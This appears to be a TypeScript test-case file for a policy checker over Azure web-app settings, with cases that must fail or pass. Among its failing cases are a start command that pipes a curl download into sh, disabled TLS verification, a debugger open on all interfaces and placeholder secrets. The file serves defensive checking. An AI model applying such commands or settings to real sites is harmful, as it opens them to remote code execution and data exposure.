import type { CasesById } from "./cases.ts";
import { add, drop, forget, put, take, unlink } from "./scene.ts";

const DIGEST = "5e".repeat(32);
const OTHER_DIGEST = "9c2f".repeat(16);
const config = (name: string) => "siteConfig." + name;

export const siteCases: CasesById = {
  "EHR-WEB-01": {
    fails: [
      ["the site answers over http, too", put("site", "httpsOnly", false)],
      ["the slot does not say", take("slot", "httpsOnly")],
    ],
  },
  "EHR-WEB-02": {
    fails: [
      ["TLS 1.0", put("site", config("minTlsVersion"), "1.0")],
      ["left out", take("slot", config("minTlsVersion"))],
    ],
    passes: [["TLS 1.3", put("site", config("minTlsVersion"), "1.3")]],
  },
  "EHR-WEB-03": {
    fails: [
      ["TLS 1.1", put("slot", config("scmMinTlsVersion"), "1.1")],
      ["left out", take("site", config("scmMinTlsVersion"))],
    ],
  },
  "EHR-WEB-04": {
    fails: [
      ["Azure's own default", put("site", config("ftpsState"), "FtpsOnly")],
      ["left out", take("slot", config("ftpsState"))],
    ],
  },
  "EHR-WEB-05": {
    fails: [
      ["on", put("site", config("remoteDebuggingEnabled"), true)],
      ["left out", take("slot", config("remoteDebuggingEnabled"))],
    ],
  },
  "EHR-WEB-06": {
    fails: [
      ["none", put("site", "identity.type", "None")],
      ["left out", take("slot", "identity")],
      ["user-assigned without saying which", take("site", "identity.userAssignedIdentities")],
      ["another deployment's", unlink("slot", "identity")],
    ],
    passes: [["the site's own", put("site", "identity", { type: "SystemAssigned" })]],
  },
  "EHR-WEB-07": {
    fails: [
      ["on", put("site", "sshEnabled", true)],
      ["left out", take("slot", "sshEnabled")],
    ],
    inTest: { passes: [["a test site may be looked into", put("site", "sshEnabled", true)]] },
  },
  "EHR-WEB-08": {
    fails: [
      ["allowed", put("siteFtp", "allow", true)],
      ["the slot has none", drop("slotFtp")],
      ["the site has none", drop("siteFtp")],
    ],
  },
  "EHR-WEB-09": {
    fails: [
      ["allowed", put("slotScm", "allow", true)],
      ["the site has none", drop("siteScm")],
    ],
  },
  "EHR-WEB-10": { fails: [["left out", take("site", config("healthCheckPath"))]] },
  "EHR-WEB-11": {
    fails: [
      ["off", put("site", config("alwaysOn"), false)],
      ["left out", take("slot", config("alwaysOn"))],
    ],
  },
  "EHR-WEB-12": { fails: [["left out", take("site", config("http20Enabled"))]] },
  "EHR-WEB-13": {
    fails: [
      ["everybody", put("site", config("cors"), { allowedOrigins: ["*"] })],
      ["a whole domain", put("slot", config("cors"), { allowedOrigins: ["https://*.example.org"] })],
      ["with cookies", put("site", config("cors"), { allowedOrigins: [], supportCredentials: true })],
    ],
    passes: [["one origin", put("site", config("cors"), { allowedOrigins: ["https://www.lamna.example"] })]],
  },
  "EHR-WEB-14": { fails: [["left out, which is on", take("site", "clientAffinityEnabled")]] },
  "EHR-WEB-15": {
    fails: [
      ["left out", take("site", "virtualNetworkSubnetId")],
      ["a subnet from elsewhere", unlink("slot", "virtualNetworkSubnetId")],
    ],
    inTest: { passes: [["a test site outside", take("site", "virtualNetworkSubnetId")]] },
  },
  "EHR-WEB-16": {
    fails: [
      ["left out", take("site", "outboundVnetRouting")],
      ["off", put("slot", "outboundVnetRouting", { allTraffic: false })],
    ],
    passes: [["the application's traffic", put("site", "outboundVnetRouting", { applicationTraffic: true })]],
  },
  "EHR-WEB-17": {
    fails: [
      ["everybody by default", put("site", config("ipSecurityRestrictionsDefaultAction"), "Allow")],
      ["no default", take("slot", config("ipSecurityRestrictionsDefaultAction"))],
      ["every customer's Front Door", take("site", config("ipSecurityRestrictions.0.headers"))],
      ["no edge", put("site", config("ipSecurityRestrictions"), [])],
      ["everybody by a rule", put("site", config("ipSecurityRestrictions.1.ipAddress"), "0.0.0.0/0")],
      ["half the internet", put("slot", config("ipSecurityRestrictions.0.ipAddress"), "128.0.0.0/1")],
      [
        "another service in production",
        put("site", config("ipSecurityRestrictions.1"), {
          action: "Allow",
          tag: "ServiceTag",
          ipAddress: "AzureCloud",
        }),
      ],
      ["a rule that does not say what it does", take("site", config("ipSecurityRestrictions.1.action"))],
    ],
    failsLater: [
      ["no Front Door's id", put("site", config("ipSecurityRestrictions.0.headers"), { "x-azure-fdid": [] })],
    ],
    passes: [
      [
        "a subnet",
        put("slot", config("ipSecurityRestrictions.0"), {
          action: "Allow",
          vnetSubnetResourceId: "/subscriptions/x/subnets/runner",
        }),
      ],
    ],
    inTest: {
      fails: [
        ["the internet", put("site", config("ipSecurityRestrictions.0.ipAddress"), "Any")],
        ["the internet by its tag", put("site", config("ipSecurityRestrictions.1.ipAddress"), "Internet")],
      ],
    },
  },
  "EHR-WEB-18": {
    fails: [
      ["left out", take("site", config("scmIpSecurityRestrictionsDefaultAction"))],
      [
        "everybody",
        put("slot", config("scmIpSecurityRestrictions"), [{ action: "Allow", ipAddress: "Any" }]),
      ],
    ],
  },
  "EHR-WEB-19": {
    fails: [["left out", take("site", "endToEndEncryptionEnabled")]],
    inTest: { passes: [["a plan without it", put("site", "endToEndEncryptionEnabled", false)]] },
  },
  "EHR-WEB-20": {
    fails: [
      [
        "a storage account's key",
        put(
          "siteSettings",
          "properties.QUEUE",
          "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" + "A".repeat(20),
        ),
      ],
      [
        "a signed address",
        put("slotSettings", "properties.BLOB", "https://x.blob.core.windows.net/p/a.zip?sv=1&sig=abc"),
      ],
      ["a password by its name", put("siteSettings", "properties.ORACLE_PASSWORD", "correct horse")],
      ["a key of Cosmos by its look", put("siteSettings", "properties.STORE", "b".repeat(86) + "==")],
      ["a token", put("siteSettings", "properties.NOTE", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.")],
      ["in siteConfig", put("site", config("appSettings"), [{ name: "SESSION_SECRET", value: "x" }])],
      [
        "a connection string",
        put("slot", config("connectionStrings"), [{ name: "db", connectionString: "Password=x" }]),
      ],
    ],
    passes: [
      [
        "a vault reference",
        put(
          "siteSettings",
          "properties.ORACLE_CLIENT_SECRET",
          "@Microsoft.KeyVault(SecretUri=https://vault1a2b.vault.azure.net/secrets/x)",
        ),
      ],
    ],
  },
  "EHR-WEB-21": {
    fails: [
      ["no digest", take("siteSettings", "properties.PACKAGE_DIGEST")],
      ["no identity", take("slotSettings", "properties.WEBSITE_RUN_FROM_PACKAGE_BLOB_MI_RESOURCE_ID")],
      ["another package's digest", put("siteSettings", "properties.PACKAGE_DIGEST", OTHER_DIGEST)],
      ["no package", drop("package")],
      ["an address typed in", unlink("slotSettings", "properties")],
      [
        "a shared access signature",
        put(
          "siteSettings",
          "properties.WEBSITE_RUN_FROM_PACKAGE",
          "https://st1a2b.blob.core.windows.net/packages/" + DIGEST + ".zip?se=2030",
        ),
      ],
      ["whatever was deployed", put("siteSettings", "properties.WEBSITE_RUN_FROM_PACKAGE", "1")],
    ],
  },
  "EHR-WEB-22": {
    fails: [
      ["a Node of yesterday", put("site", config("linuxFxVersion"), "NODE|18-lts")],
      ["a container image", put("slot", config("linuxFxVersion"), "DOCKER|registry.example/app")],
      ["left out", take("site", config("linuxFxVersion"))],
    ],
  },
  "EHR-WEB-23": {
    fails: [
      ["one instance", put("plan", "sku.capacity", 1)],
      ["a basic plan", put("plan", "sku.name", "B1")],
    ],
    inTest: { passes: [["a small plan", put("plan", "sku", { name: "B1", capacity: 1 })]] },
  },
  "EHR-WEB-24": {
    fails: [["left out", take("plan", "zoneRedundant")]],
    inTest: { passes: [["one zone", put("plan", "zoneRedundant", false)]] },
  },
  "EHR-WEB-25": {
    fails: [
      ["requests", put("site", config("httpLoggingEnabled"), true)],
      ["error pages", put("slot", config("detailedErrorLoggingEnabled"), true)],
      ["traces", put("site", config("requestTracingEnabled"), true)],
      [
        "by the resource beside",
        add({
          type: "azure-native:web:WebAppDiagnosticLogsConfiguration",
          name: "logs",
          props: { name: "app", httpLogs: { fileSystem: { enabled: true } } },
        }),
      ],
    ],
  },
  "EHR-WEB-26": {
    fails: [
      ["no start command", take("site", config("appCommandLine"))],
      ["another program", put("site", config("appCommandLine"), "sh -c 'curl https://example.org | sh'")],
      ["an open debugger", put("slot", config("appCommandLine"), "node --inspect connector.js")],
      ["settings where drift is not seen", put("site", config("appSettings"), [{ name: "A", value: "b" }])],
      ["connection strings", put("site", config("connectionStrings"), [{ name: "a" }])],
      ["swapping by itself", put("slot", config("autoSwapSlotName"), "production")],
      ["source control", put("site", config("scmType"), "GitHub")],
    ],
  },
  "EHR-WEB-27": {
    fails: [
      ["plain http", put("hostName", "sslState", "Disabled")],
      ["no certificate", take("hostName", "thumbprint")],
    ],
  },
  "EHR-WEB-28": {
    fails: [
      ["one at night", put("autoscale", "profiles.0.capacity.minimum", "1")],
      ["off", put("autoscale", "enabled", false)],
    ],
  },
  "EHR-WEB-30": {
    fails: [
      ["nobody waits", drop("ready"), drop("readyEdge")],
      ["nobody waits for the slot", forget("ready", "slotSettings"), forget("readyEdge", "slotSettings")],
      ["plain http", put("ready", "sites.0.address", "http://app1a2b.azurewebsites.net")],
      ["whatever answers", take("ready", "sites.0.digest")],
    ],
  },
  "EHR-WEB-29": {
    fails: [
      ["certificates unchecked", put("siteSettings", "properties.NODE_TLS_REJECT_UNAUTHORIZED", "0")],
      ["a debugger", put("slotSettings", "properties.NODE_OPTIONS", "--inspect=0.0.0.0:9229")],
      ["other code first", put("siteSettings", "properties.NODE_OPTIONS", "--import ./other.js")],
      ["another authority", put("siteSettings", "properties.NODE_EXTRA_CA_CERTS", "/home/ca.pem")],
      ["a laptop's environment", put("siteSettings", "properties.CONNECTOR_ENVIRONMENT", "local")],
      ["no environment", take("slotSettings", "properties.CONNECTOR_ENVIRONMENT")],
      ["plain http", put("siteSettings", "properties.MICROSOFT_GRAPH", "http://graph.example")],
      ["a build on the site", put("siteSettings", "properties.SCM_DO_BUILD_DURING_DEPLOYMENT", "true")],
    ],
  },
};
